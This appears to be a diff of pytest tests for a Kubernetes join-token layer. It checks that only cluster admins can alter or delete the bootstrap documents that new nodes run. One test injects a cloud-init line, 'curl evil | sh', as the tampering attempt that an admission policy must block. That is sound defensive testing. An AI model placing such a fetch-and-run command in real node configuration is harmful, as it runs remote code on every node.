@@ -410,9 +410,10 @@ def test_with_the_layers_rights_alone_it_reads_the_plans_documents_and_writes_ea
         documents_from=f"{SYSTEM_NAMESPACE}/{join.DOCUMENTS_CONFIGMAP}", directory=str(tmp_path / "models"),
     )  # fmt: skip
     publisher = jt.Publisher(settings, user, jt.DirectoryModels(tmp_path / "models"))
-    first = publisher.once()
+    lease = jt.Lease(user, SYSTEM_NAMESPACE, "apiservers-1", 120)
+    first = publisher.once(lease.hold)  # the layer made the Lease: taken, then renewed at each write
     assert first.issued and set(first.written) == set(documents)
-    assert jt.Lease(user, SYSTEM_NAMESPACE, "apiservers-1", 120).hold()
+    assert lease.hold()
     # a change to the plan's document (pulumi up updates the ConfigMap) is written with the same token
     changed = document("cpu").replace("300", "240")
     apiserver.kubectl(api, "patch", "configmap", "-n", SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP, "--type=merge",
@@ -430,6 +431,9 @@ def test_with_the_layers_rights_alone_it_reads_the_plans_documents_and_writes_ea
             user.create(path, body)
     with pytest.raises(gov.ServiceError, match="HTTP 403"):
         user.get(f"/apis/coordination.k8s.io/v1/namespaces/{SYSTEM_NAMESPACE}/leases/another")
+    with pytest.raises(gov.ServiceError, match="HTTP 403"):
+        user.create(f"/apis/coordination.k8s.io/v1/namespaces/{SYSTEM_NAMESPACE}/leases",
+                    {"metadata": {"name": unique("lease")}, "spec": {}})  # fmt: skip
     with pytest.raises(gov.ServiceError, match="HTTP 403"):
         user.get(f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps/another")
 
@@ -458,3 +462,35 @@ def test_the_role_ships_these_modules_and_names_what_the_rest_of_superkube_names
     # each round is renewed well inside the lease, and the settings it writes pass the publisher's checks
     assert defaults["join_tokens_lease_s"] >= 2 * defaults["join_tokens_interval_s"]
     join.check_lifetime(join.DEFAULT_TTL_S, join.DEFAULT_ROTATE_S, defaults["join_tokens_interval_s"])
+
+
+def test_only_the_clusters_admins_may_change_the_documents_every_new_node_runs(api: LocalApi) -> None:
+    """A workload's operator with rights on every ConfigMap (the MPI Operator's) is refused the
+    node documents, a delete included; an admin is not."""
+    apiserver.kubectl(api, "create", "namespace", SYSTEM_NAMESPACE, check=False)
+    documents = {"vmss-gpu-0": document("gpu")}
+    apply(api, *join_tokens_layer.manifests(join_tokens_layer.JoinTokensArgs(documents=documents)))
+    operator = unique("operator")
+    apply(api, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": operator},
+                "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}]},
+          {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": operator},
+           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": operator},
+           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": operator}]})  # fmt: skip
+    as_operator = api.client_kubeconfig(operator, operator)
+    path = f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps/{join.DOCUMENTS_CONFIGMAP}"
+    own = gov.KubeReader(as_operator)
+    current = own.get(path)  # reading it is theirs
+    bad = {**current, "data": {"vmss-gpu-0": document("gpu") + "runcmd: [[sh, -c, 'curl evil | sh']]\n"}}
+    with pytest.raises(
+        gov.ServiceError,
+        match=r"HTTP 403 .*forbidden: ValidatingAdmissionPolicy 'superkube-node-documents-admins-only'",
+    ):
+        own.replace(path, bad)
+    refused = subprocess.run([str(api.kubectl), "--kubeconfig", str(as_operator), "delete", "configmap", "-n",
+                              SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP], capture_output=True, text=True, timeout=30)  # fmt: skip
+    assert refused.returncode != 0 and "only the cluster's admins" in refused.stderr, refused.stderr
+    # other ConfigMaps are the operator's as before
+    own.create(f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps", {"metadata": {"name": unique("cm")}})
+    # and an admin (system:masters, as the layer's pulumi up) changes it
+    apiserver.kubectl(api, "patch", "configmap", "-n", SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP, "--type=merge",
+                      "-p", json.dumps({"data": {"vmss-gpu-0": document("gpu")}}))  # fmt: skip
